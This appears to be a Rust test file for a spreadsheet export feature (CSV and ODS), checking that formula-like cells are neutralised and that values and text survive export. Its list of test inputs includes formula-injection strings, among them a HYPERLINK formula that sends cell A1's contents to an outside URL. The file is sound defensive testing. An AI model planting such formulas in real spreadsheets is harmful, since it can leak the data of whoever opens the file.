use super::*;
use base::jiff::civil::date;
use quick_xml::Reader;
use quick_xml::events::Event;
use std::io::{Cursor, Read};

const FORMULAS: [&str; 12] = [
    "=1+1",
    "+44 20 7946 0000",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =HYPERLINK(\"http://example.org/?\"&A1,\"see\")",
    "＝1+1",
    "＠SUM",
    "\u{feff}=1+1",
    "\u{200f}=1+1",
];

fn sheet(rows: Vec<Vec<Cell>>) -> Sheet {
    let columns = vec!["=Who".to_owned(), "How much".to_owned()];
    Sheet { name: "What [was] paid: 'all'".into(), direction: Direction::RightToLeft, columns, rows }
}

/// Every cell of the CSV, as a program reads it.
fn read_csv(bytes: &[u8]) -> Vec<Vec<String>> {
    let bytes = bytes.strip_prefix("\u{feff}".as_bytes()).expect("the mark of UTF-8");
    let mut reader = ::csv::ReaderBuilder::new().has_headers(false).from_reader(bytes);
    reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
}

fn part(bytes: &[u8], name: &str) -> String {
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut text = String::new();
    zip.by_name(name).unwrap().read_to_string(&mut text).unwrap();
    text
}

/// Every cell of the ODS: its kind, its value, and its words as a program shows them.
fn read_ods(bytes: &[u8]) -> Vec<(String, String, String)> {
    let content = part(bytes, "content.xml");
    let mut reader = Reader::from_str(&content);
    let (mut cells, mut paragraphs) = (Vec::new(), 0);
    loop {
        let event = reader.read_event().unwrap();
        match &event {
            Event::Start(tag) | Event::Empty(tag) => match tag.name().as_ref() {
                b"table:table-cell" => {
                    let of = |name: &str| {
                        let found = tag.try_get_attribute(name).unwrap();
                        found.map(|found| String::from_utf8(found.value.into_owned()).unwrap()).unwrap_or_default()
                    };
                    let value = of("office:value") + &of("office:date-value");
                    assert_eq!(of("table:formula"), "");
                    cells.push((of("office:value-type"), value, String::new()));
                    paragraphs = 0;
                }
                b"text:p" => {
                    if paragraphs > 0 {
                        cells.last_mut().unwrap().2.push('\n');
                    }
                    paragraphs += 1;
                }
                b"text:s" => {
                    let count = tag.try_get_attribute("text:c").unwrap().unwrap();
                    let count: usize = std::str::from_utf8(&count.value).unwrap().parse().unwrap();
                    cells.last_mut().unwrap().2.push_str(&" ".repeat(count));
                }
                b"text:tab" => cells.last_mut().unwrap().2.push('\t'),
                _ => {}
            },
            Event::Text(text) => {
                if let Some(cell) = cells.last_mut() {
                    cell.2.push_str(&text.decode().unwrap());
                }
            }
            Event::GeneralRef(name) => {
                let c = match name.decode().unwrap().as_ref() {
                    "lt" => '<',
                    "gt" => '>',
                    "amp" => '&',
                    "quot" => '"',
                    "apos" => '\'',
                    other => panic!("{other}"),
                };
                cells.last_mut().unwrap().2.push(c);
            }
            Event::Eof => return cells,
            _ => {}
        }
    }
}

#[test]
fn what_begins_like_a_formula_stays_words_in_csv() {
    let rows = FORMULAS.iter().map(|words| vec![Cell::words(*words), Cell::Empty]).collect();
    let read = read_csv(&sheet(rows).bytes(Format::Csv).unwrap());
    assert_eq!(read[0], ["'=Who", "How much"]);
    for (row, words) in read[1..].iter().zip(FORMULAS) {
        assert_eq!(row, &[format!("'{words}"), String::new()]);
    }
    assert_eq!(read.len(), FORMULAS.len() + 1);
}

#[test]
fn no_cell_of_an_ods_is_a_formula() {
    let rows = FORMULAS.iter().map(|words| vec![Cell::words(*words)]).collect();
    let cells = read_ods(&sheet(rows).bytes(Format::Ods).unwrap());
    assert!(cells.iter().all(|(kind, value, _)| kind == "string" && value.is_empty()));
    assert_eq!(cells.len(), FORMULAS.len() + 2);
}

#[test]
fn numbers_amounts_and_days_stay_what_they_are() {
    let rows = vec![
        vec![Cell::Number(-3), Cell::Amount { minor: -1250, digits: 2 }],
        vec![Cell::Day(date(2026, 12, 18)), Cell::Amount { minor: 5, digits: 3 }],
        vec![Cell::maybe(None::<String>), Cell::Amount { minor: i64::MIN, digits: 0 }],
    ];
    let sheet = sheet(rows);
    let read = read_csv(&sheet.bytes(Format::Csv).unwrap());
    assert_eq!(read[1..], [["-3", "-12.50"], ["2026-12-18", "0.005"], ["", "-9223372036854775808"]]);
    let cells = read_ods(&sheet.bytes(Format::Ods).unwrap());
    let values: Vec<_> = cells[2..].iter().map(|(kind, value, _)| (kind.as_str(), value.as_str())).collect();
    assert_eq!(
        values,
        [
            ("float", "-3"),
            ("float", "-12.50"),
            ("date", "2026-12-18"),
            ("float", "0.005"),
            ("", ""),
            ("float", "-9223372036854775808"),
        ]
    );
}

#[test]
fn words_come_through_whole() {
    let hard = [
        "a, \"b\"; c",
        "two\nlines",
        "  two  spaces  and a\ttab ",
        "<b> & 'c' ]]>",
        "حافلة إلى ليدز",
        "ትግርኛ",
        " ",
        "one two",
    ];
    let rows = hard.iter().map(|words| vec![Cell::words(*words), Cell::Empty]).collect();
    let sheet = sheet(rows);
    let csv = read_csv(&sheet.bytes(Format::Csv).unwrap());
    let ods = read_ods(&sheet.bytes(Format::Ods).unwrap());
    for (at, words) in hard.iter().enumerate() {
        assert_eq!(&csv[at + 1][0], words);
        assert_eq!(&ods[2 + at * 2].2, words);
    }
}

#[test]
fn control_characters_stay_out() {
    let sheet = sheet(vec![vec![Cell::words("a\0b\u{1b}c\u{ffff}d"), Cell::Empty]]);
    assert_eq!(read_csv(&sheet.bytes(Format::Csv).unwrap())[1][0], "abcd");
    assert_eq!(read_ods(&sheet.bytes(Format::Ods).unwrap())[2].2, "abcd");
}

#[test]
fn an_ods_is_known_by_its_first_bytes() {
    let bytes = sheet(Vec::new()).bytes(Format::Ods).unwrap();
    let mime = "application/vnd.oasis.opendocument.spreadsheet";
    // The name of the first file at 30, its bytes right behind it: nothing packed, nothing between.
    assert_eq!(&bytes[30..38], b"mimetype");
    assert_eq!(&bytes[38..38 + mime.len()], mime.as_bytes());
    assert!(part(&bytes, "META-INF/manifest.xml").contains("full-path=\"content.xml\""));
    let content = part(&bytes, "content.xml");
    assert!(content.contains("style:writing-mode=\"rl-tb\""));
    assert!(content.contains("table:name=\"What was paid all\""));
}

#[test]
fn a_file_is_kept_and_not_shown() {
    let name: Slug = "expenses-2026".parse().unwrap();
    for format in Format::ALL {
        let response = sheet(Vec::new()).send(format, &name).unwrap();
        let disposition = response.headers()[header::CONTENT_DISPOSITION].to_str().unwrap();
        assert_eq!(disposition, format!("attachment; filename=\"expenses-2026.{}\"", format.ending()));
        assert_eq!(response.headers()[header::CACHE_CONTROL], "no-store");
        assert_eq!(Format::parse(format.ending()), Some(format));
    }
    assert_eq!(Format::parse("xlsx"), None);
}
